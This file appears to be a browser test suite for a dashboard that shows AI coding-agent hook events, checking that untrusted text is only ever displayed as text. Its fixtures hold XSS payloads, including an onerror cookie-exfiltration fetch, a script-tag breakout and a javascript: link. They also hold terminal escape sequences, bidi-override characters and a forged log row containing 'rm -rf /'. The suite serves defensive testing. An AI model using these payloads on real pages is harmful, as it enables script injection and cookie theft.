import { afterAll, beforeAll, expect, test } from 'vitest'
import { describeWith } from '../requires.ts'
import { openBridge, type TestBridge } from './bridge.ts'
import { openPage, type TestPage } from './browser.ts'

/** The strings of bug case B55, and how the page has to show what would have acted or hidden something. */
const hostile: readonly (readonly [string, string])[] = [
  [`<img src=x onerror=fetch('//x/'+document.cookie)>`, `<img src=x onerror=fetch('//x/'+document.cookie)>`],
  [`<img src=x onerror="globalThis.pwned=1">`, 'onerror="globalThis.pwned=1"'],
  ['[a](javascript:alert(1))', '[a](javascript:alert(1))'],
  ['</script><script>globalThis.pwned=1</script>', '</script><script>globalThis.pwned=1</script>'],
  ['\u001b[2J\u001b]0;x\u0007', '‹ESC›[2J‹ESC›]0;x‹BEL›'],
  ['\u009b31mred', '‹U+009B›31mred'],
  ['\u202egnp.exe', '‹U+202E›gnp.exe'],
  [`z${'\u0301'.repeat(200)}`, '‹+194 marks›'],
  ['A\u0001\u000b\u009b31mB\u0007', 'A‹SOH›‹VT›‹U+009B›31mB‹BEL›'],
]
/** Nearly as long as the bridge keeps a text. */
const longTail = `${'x'.repeat(99_000)}THE-TAIL`

/** Controls other than tab and newline, and characters that reorder text. */
function hidingCharacters(text: string): string[] {
  return Array.from(text).filter(
    (character) => /[\p{Cc}\u202a-\u202e\u2066-\u2069]/u.test(character) && !/[\t\n]/.test(character),
  )
}

describeWith('chromium')('B55 untrusted text is only ever text', () => {
  let bridge: TestBridge
  let opened: TestPage
  beforeAll(async () => {
    bridge = await openBridge()
    opened = await openPage()
    await opened.page.goto(await bridge.link())
    await opened.page.getByText('live', { exact: true }).waitFor()
  })
  afterAll(async () => {
    await opened[Symbol.asyncDispose]()
    await bridge[Symbol.asyncDispose]()
  })

  test.each(hostile.map(([text, shown], index) => ({ text, shown, index })))(
    'in every field ($index)',
    async ({ text, shown, index }) => {
      const { page } = opened
      const session = { id: `evil-${index}`, directory: `/home/dev/${text.replaceAll('/', '∕')}` }
      const call = { tool_name: `Tool ${text}`, tool_input: { command: text }, tool_use_id: `t-${text}` }
      await bridge.hook(session, 'SessionStart', { source: 'startup' })
      await bridge.hook(session, 'UserPromptSubmit', { prompt: text })
      await bridge.hook(session, 'PreToolUse', call)
      await bridge.hook(session, 'PostToolUseFailure', { ...call, error: text })
      await bridge.hook(session, 'Notification', { message: text, title: text })
      await bridge.hook(session, 'SubagentStart', { agent_id: text, agent_type: text })
      await bridge.hook(session, 'PermissionRequest', {
        tool_name: 'Bash',
        tool_input: { command: text, description: text },
      })
      await bridge.hook(session, 'Stop', { last_assistant_message: text })
      await bridge.client.sendMessage({ content: text, chat_id: 'chat' })

      await page.keyboard.press('Escape')
      const agent = page.locator('.agent[data-contact]', { hasText: shown.replaceAll('/', '∕') }).first()
      await agent.click()
      await page.keyboard.press('s')
      const list = page.getByRole('list', { name: 'Timeline' })
      for (const place of ['.is-prompt', '.is-reply', '.is-step .tool', '.row-error']) {
        await list.locator(place, { hasText: shown }).first().waitFor()
      }
      await page.keyboard.press('s')
      const { shown: body, ...harm } = await page.evaluate(() => ({
        executed: 'pwned' in globalThis,
        images: document.querySelectorAll('#app img, #app script, #app a:not(.skip)').length,
        shown: document.body.innerText,
      }))
      expect(harm).toEqual({ executed: false, images: 0 })
      expect(hidingCharacters(body)).toEqual([])
      await page.getByText('All agents').first().click()
    },
  )

  test('a message of 99,000 characters is shown to its end once it is opened', async () => {
    const { page } = opened
    const session = { id: 'long', directory: '/home/dev/long' }
    await bridge.hook(session, 'SessionStart', { source: 'startup' })
    await bridge.hook(session, 'UserPromptSubmit', { prompt: longTail })
    await page.locator('.agent[data-contact]', { hasText: '~/long' }).click()
    const prompt = page.locator('.row.is-prompt')
    await prompt.waitFor()
    expect((await prompt.boundingBox())?.height).toBeLessThan(120)
    expect(await prompt.textContent()).not.toContain('THE-TAIL')
    await prompt.click()
    await prompt.getByText('THE-TAIL').waitFor()
    expect(await prompt.locator('.said').textContent()).toBe(longTail)
  })

  test('a line that was written to look like a row of its own does not', async () => {
    const { page } = opened
    const session = { id: 'fake', directory: '/home/dev/fake' }
    const forged = 'ls\n14:02  vint  ◆ allowed  rm -rf /'
    await bridge.hook(session, 'UserPromptSubmit', { prompt: 'go' })
    await bridge.hook(session, 'PreToolUse', {
      tool_name: 'Bash',
      tool_input: { command: forged },
      tool_use_id: 'f',
    })
    await bridge.hook(session, 'PostToolUseFailure', {
      tool_name: 'Bash',
      tool_input: { command: forged },
      tool_use_id: 'f',
      error: forged,
    })
    await page.locator('.agent[data-contact]', { hasText: '~/fake' }).click()
    await page.locator('.row.is-turn').click()
    const error = page.locator('.row-error')
    await error.waitFor()
    expect(await error.textContent()).toBe('ls ⏎ 14:02  vint  ◆ allowed  rm -rf /')
  })

  test('the policy had nothing to refuse, and nothing failed', () => {
    expect(opened.problems).toEqual([])
  })
})
